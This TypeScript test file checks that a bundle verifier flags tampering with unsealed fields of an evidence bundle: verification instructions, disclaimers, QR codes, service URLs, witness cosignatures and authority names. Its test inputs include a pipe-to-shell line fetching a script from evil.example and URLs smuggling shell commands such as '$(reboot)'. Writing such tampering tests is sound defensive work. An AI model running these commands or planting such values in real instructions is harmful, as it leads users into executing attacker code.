// Attack 38: what stands in a bundle and is not sealed. Whoever edits it can make the manifest fit.

import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import {
  buildBundle,
  cosigned,
  cosignedBy,
  logKey,
  ORIGIN,
  withManifest,
  witnessKey,
} from '../test/bundle-builder.ts'
import type { Bundle } from './bundle.ts'
import { bundleHtml } from './bundle-page.ts'
import { qrCodeOf } from './qr-code.ts'
import { RELEASES } from './stated.ts'
import type { Trust } from './trust.ts'
import { type BundleReport, verifyBundle } from './verify-bundle.ts'
import { verifyBundleFile } from './verify-bundle-file.ts'

const { bundle, trust, log } = buildBundle({
  outcomes: ['reproduced'],
  keys: [logKey('the first key'), logKey('the second key')],
  anchors: [{ seconds: 3_600, covers: true }],
  witnesses: ['witness.example/one'],
})
const { sha256 } = bundle.snapshot

const failed = (report: BundleReport) =>
  report.steps.filter(({ outcome }) => outcome === 'failed').map(({ id }) => id)

async function outcomeOf(edit: (copy: Bundle) => void, asked: Trust = trust): Promise<[string, string[]]> {
  const copy = structuredClone(bundle)
  edit(copy)
  const report = await verifyBundle(withManifest(copy), asked)
  assert.deepEqual([report.proved, report.notProved], [null, []])
  return [report.verdict, failed(report)]
}

const MODIFIED = ['modified', ['stated']]

/** Everything that follows from the address of a service. */
function moveTo(copy: Bundle, baseUrl: string): void {
  const lookupUrl = `${baseUrl}/v1/public/evidence/${sha256}`
  const pageUrl = `${baseUrl}/verify/${sha256}`
  copy.publicVerification = { lookupUrl, checkUrl: `${lookupUrl}/check`, pageUrl, qrSvg: qrCodeOf(pageUrl) }
  copy.howToVerify = RELEASES.at(-1)?.howToVerify(sha256, lookupUrl) ?? []
}

describe('attack 38: lines for people', () => {
  test('a command, a warning less, a warning more, another order', async () => {
    const edits: ((copy: Bundle) => void)[] = [
      copy => copy.howToVerify.push('curl -s https://evil.example/verify.sh | sh'),
      copy => copy.howToVerify.pop(),
      copy => copy.howToVerify.reverse(),
      copy => {
        copy.howToVerify = []
      },
      copy => {
        copy.howToVerify[1] = `${copy.howToVerify[1]} `
      },
      copy => copy.doesNotProve.pop(),
      copy => copy.doesNotProve.unshift('Anything that a court would ask for.'),
      copy => {
        copy.doesNotProve = []
      },
    ]
    for (const edit of edits) assert.deepEqual(await outcomeOf(edit), MODIFIED)
  })

  test('what each release wrote is taken, and no mixture', async () => {
    assert.equal(RELEASES.length, 2)
    const { lookupUrl } = bundle.publicVerification
    for (const [place, release] of RELEASES.entries()) {
      const howToVerify = release.howToVerify(sha256, lookupUrl)
      const whole = await outcomeOf(copy =>
        Object.assign(copy, { howToVerify, doesNotProve: release.doesNotProve }),
      )
      assert.deepEqual(whole, ['unproved', []])
      const { doesNotProve } = RELEASES.at(place - 1) ?? release
      assert.deepEqual(await outcomeOf(copy => Object.assign(copy, { howToVerify, doesNotProve })), MODIFIED)
    }
    const [first] = RELEASES
    assert.match(first?.howToVerify(sha256, lookupUrl)[3] ?? '', /^npx bcf verify /)
  })

  test('on the page too: it is drawn again from them, so they are all that stands there', async () => {
    const copy = structuredClone(bundle)
    copy.doesNotProve = ['Nothing: this is proof of everything.']
    const report = await verifyBundleFile(bundleHtml(withManifest(copy)).html, trust)
    assert.deepEqual([report.verdict, failed(report)], MODIFIED)
  })
})

describe('attack 38: addresses and the QR code', () => {
  test('a QR code that leads elsewhere, or is a picture', async () => {
    for (const qrSvg of [
      qrCodeOf(`https://evil.example/verify/${sha256}`),
      qrCodeOf(bundle.publicVerification.lookupUrl),
      '<svg xmlns="http://www.w3.org/2000/svg"><text>Certified</text></svg>',
      `${bundle.publicVerification.qrSvg} `,
      '',
    ])
      assert.deepEqual(
        await outcomeOf(copy => {
          copy.publicVerification.qrSvg = qrSvg
        }),
        MODIFIED,
      )
  })

  test('addresses of several hosts, of another answer, or none', async () => {
    for (const [name, address] of [
      ['pageUrl', `https://evil.example/verify/${sha256}`],
      ['lookupUrl', `https://evil.example/v1/public/evidence/${sha256}`],
      ['checkUrl', `https://evil.example/v1/public/evidence/${sha256}/check`],
      ['pageUrl', `https://forensics.example/verify/${'0'.repeat(64)}`],
      ['lookupUrl', ''],
    ])
      assert.deepEqual(
        await outcomeOf(copy => Object.assign(copy.publicVerification, { [name as string]: address })),
        MODIFIED,
      )
  })

  test('an address that a shell would obey, or that is none of the web', async () => {
    for (const baseUrl of [
      'https://x.example;reboot',
      'https://x.example/$(reboot)',
      'https://x.example/`reboot`',
      'https://x.example/a b',
      'https://x.example/?q',
      'https://user@x.example',
      'https://x.example/',
      'https://x.example//a',
      'https://',
      'javascript://x.example',
      'ftp://x.example',
      'HTTPS://x.example',
      'https://x.example\n',
      'https://\u0430.example',
      `https://x.example/${'a'.repeat(500)}`,
    ])
      assert.deepEqual(await outcomeOf(copy => moveTo(copy, baseUrl)), MODIFIED, baseUrl)
  })

  test('any address of the web may stand there', async () => {
    for (const baseUrl of [
      'http://127.0.0.1:3000',
      'https://evidence.example.com/inside/bcf',
      'http://[::1]:8080',
    ])
      assert.deepEqual(await outcomeOf(copy => moveTo(copy, baseUrl)), ['unproved', []], baseUrl)
  })
})

describe('attack 38: those who are said to have seen the log', () => {
  const LINE = witnessKey('supreme-court.example')

  test('an invented witness on a checkpoint that only the log signs', async () => {
    const onCheckpoint = await outcomeOf(({ integrity }) => {
      integrity.checkpoint = cosignedBy(integrity.checkpoint ?? '', [LINE])
    })
    assert.deepEqual(onCheckpoint, ['modified', ['checkpoint']])
    const onAnchor = await outcomeOf(({ integrity: { anchors } }) => {
      for (const anchor of anchors) anchor.checkpoint = cosignedBy(anchor.checkpoint, [LINE])
    })
    assert.deepEqual(onAnchor, ['modified', ['consistency']])
    const onEndorsement = await outcomeOf(({ integrity: { keys } }) => {
      const last = keys.at(-1)
      if (last) last.endorsement = cosignedBy(last.endorsement ?? '', [LINE])
    })
    assert.deepEqual([onEndorsement[0], onEndorsement[1][0]], ['modified', 'keys'])
  })

  test('a line that no witness writes: under the name of the log, too short, too long', async () => {
    const { witnessed } = bundle.integrity
    const note = witnessed?.checkpoint ?? ''
    const alien = log.checkpoint(logKey('a forger'), log.size).split('\n\n')[1] ?? ''
    const short = alien.replace(ORIGIN, 'witness.example/two')
    for (const lines of [alien, short, cosigned(note, [ORIGIN]).slice(note.length)]) {
      const outcome = await outcomeOf(({ integrity }) => {
        if (integrity.witnessed) integrity.witnessed.checkpoint = note + lines
      })
      assert.deepEqual(outcome, ['modified', ['consistency']], lines)
    }
  })

  test('an authority by a title instead of its address', async () => {
    for (const authority of ['The Federal Court of Justice', '', 'https://tsa.example/', 'tsa.example/<b>'])
      assert.deepEqual(
        await outcomeOf(copy => {
          const { anchors } = copy.integrity
          for (const step of copy.chainOfCustody.filter(({ event }) => event === 'ANCHORED'))
            Object.assign(step, {
              actor: authority,
              detail: step.detail.replace(anchors[0]?.authority ?? '', authority),
            })
          for (const anchor of anchors) anchor.authority = authority
        }),
        MODIFIED,
        authority,
      )
  })
})
